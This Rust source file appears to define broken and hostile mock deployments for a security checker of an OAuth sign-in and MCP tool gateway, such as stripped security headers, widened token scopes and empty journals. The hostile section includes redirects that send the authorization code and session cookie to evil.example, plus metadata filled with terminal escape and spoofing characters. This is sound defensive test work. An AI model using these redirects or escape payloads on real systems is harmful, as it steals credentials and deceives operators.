//! Deployments that are broken in one way, as a person who has signed in sees them, and hostile ones.

use super::broken::{Broken, answers, changes, page};
use crate::proxy::{Inbound, Outbound};

const AFTER_CONSENT: &[&str] =
    &["sign-in.microsoft", "sign-in.token", "canary.list", "canary.call", "canary.journal", "sign-in.revoke"];

/// The same row where checks cannot be made because of it.
const fn skipping(row: &Broken, skips: &'static [&'static str]) -> Broken {
    Broken { skips, ..*row }
}

fn redirects_with(request: &Inbound, answer: &mut Outbound, from: &str, to: &str) {
    if request.is("POST", "/consent") {
        answer.change_header("location", from, to);
    }
}

fn is_call(request: &Inbound, method: &str) -> bool {
    request.is("POST", "/mcp") && request.header("mcp-method") == Some(method)
}

/// Pages, cookies, consent and tokens.
pub(super) const SIGN_IN: &[Broken] = &[
    changes("page.headers", "the page has no policy", |request, answer| {
        if request.path() == "/me" {
            answer.drop_header("content-security-policy");
        }
    }),
    changes("page.headers", "the page may run scripts", |request, answer| {
        if request.path() == "/me" {
            answer.change_header(
                "content-security-policy",
                "default-src 'none';",
                "default-src 'none'; script-src 'self';",
            );
        }
    }),
    changes("page.headers", "the page may be framed", |request, answer| {
        if request.path() == "/me" {
            answer.drop_header("x-frame-options");
        }
    }),
    changes("page.cookies", "the cookie travels without TLS", |_, answer| {
        answer.change_header("set-cookie", "; Secure", "");
    }),
    changes("page.cookies", "scripts can read the cookie", |_, answer| {
        answer.change_header("set-cookie", "; HttpOnly", "");
    }),
    skipping(
        &changes("sign-in.consent", "the client gets another state", |request, answer| {
            redirects_with(request, answer, "state=", "state=x");
        }),
        AFTER_CONSENT,
    ),
    skipping(
        &changes("sign-in.consent", "the answer does not say who issued it", |request, answer| {
            redirects_with(request, answer, "iss=", "was=");
        }),
        AFTER_CONSENT,
    ),
    skipping(
        &changes("sign-in.consent", "the code goes to somebody else", |request, answer| {
            redirects_with(request, answer, "http://127.0.0.1/", "https://evil.example/");
        }),
        AFTER_CONSENT,
    ),
    changes("sign-in.token", "access tokens live for a day", |request, answer| {
        if request.is("POST", "/token") {
            answer.change_body("\"expires_in\":3", "\"expires_in\":83");
        }
    }),
    changes("sign-in.token", "the grant is wider than what was asked for", |request, answer| {
        if request.is("POST", "/token") {
            answer.change_body("\"Mail.Read\"", "\"Mail.Read Mail.Send\"");
        }
    }),
    changes("sign-in.token", "tokens may be stored", |request, answer| {
        if request.is("POST", "/token") && answer.status == 200 {
            answer.set_header("cache-control", "private");
        }
    }),
];

/// The call, its record and its end.
pub(super) const CANARY: &[Broken] = &[
    skipping(
        &changes("canary.list", "a reading tool is not marked as one", |request, answer| {
            if is_call(request, "tools/list") {
                answer.change_body("\"readOnlyHint\":true", "\"readOnlyHint\":false");
            }
        }),
        &["canary.call", "canary.journal"],
    ),
    skipping(
        &answers("canary.call", "the tool fails", |request, _| {
            let failed = r#"{"jsonrpc":"2.0","id":1,"result":{"isError":true,"content":[{"type":"text","text":"No."}]}}"#;
            is_call(request, "tools/call").then(|| Outbound::new(200, "application/json", failed))
        }),
        &["canary.journal"],
    ),
    changes("canary.journal", "the journal does not know the gateway's log", |request, answer| {
        if request.path() == "/me/journal" {
            answer.change_body("\"aiGatewayLogId\":\"", "\"aiGatewayLogId\":null,\"was\":\"");
        }
    }),
    changes("canary.journal", "the journal does not know Graph's request", |request, answer| {
        if request.path() == "/me/journal" {
            answer.change_body("\"graphRequestId\":\"", "\"graphRequestId\":null,\"was\":\"");
        }
    }),
    changes("canary.journal", "nothing was recorded before the effect", |request, answer| {
        if request.path() == "/me/journal" {
            answer.change_body("\"phase\":\"intent\"", "\"phase\":\"event\"");
        }
    }),
    changes("canary.journal", "the journal is empty", |request, answer| {
        if request.target.starts_with("/me/journal?") {
            answer.body = br#"{"records":[]}"#.to_vec();
        }
    }),
    answers("sign-in.revoke", "revocation changes nothing", |request, _| {
        let revoked =
            request.is("POST", "/revoke") && request.says("token=m365r_") && request.says("client_id=");
        revoked.then(|| Outbound::new(200, "application/json", "{}"))
    }),
    answers("service.bound", "a service token opens a page", |request, _| {
        (request.path() == "/me" && request.header("cf-access-client-secret").is_some()).then(page)
    }),
];

/// What the terminal of the operator must survive.
pub(super) const HOSTILE: &[Broken] = &[
    changes("metadata.server", "escape sequences in the metadata", |request, answer| {
        if request.path() == "/.well-known/oauth-authorization-server" {
            let escapes = "\"issuer\":\"\\u001b[2J\\u001b]0;owned\\u0007\\u009b31m\\u202e\\r\\n\\u0430";
            answer.change_body("\"issuer\":\"", &format!("{escapes}{}", "A".repeat(50_000)));
        }
    }),
    changes("sign-in.session", "the cookie is thrown back at the operator", |request, answer| {
        let cookie = request.header("cookie").unwrap_or_default().to_owned();
        if request.is("GET", "/me")
            && cookie.contains("CF_Authorization=")
            && request.header("origin").is_none()
            && cookie.contains("eyJ")
            && answer.status == 200
        {
            answer.set_header("content-type", &cookie);
            answer.body = cookie.into_bytes();
        }
    }),
    changes("sign-in.consent", "the code and the cookie are put into a redirect", |request, answer| {
        if request.is("POST", "/consent") && answer.status < 400 {
            let cookie = request.header("cookie").unwrap_or_default();
            answer.set_header("location", &format!("http://evil.example/{}/{cookie}", "a".repeat(40)));
        }
    }),
];
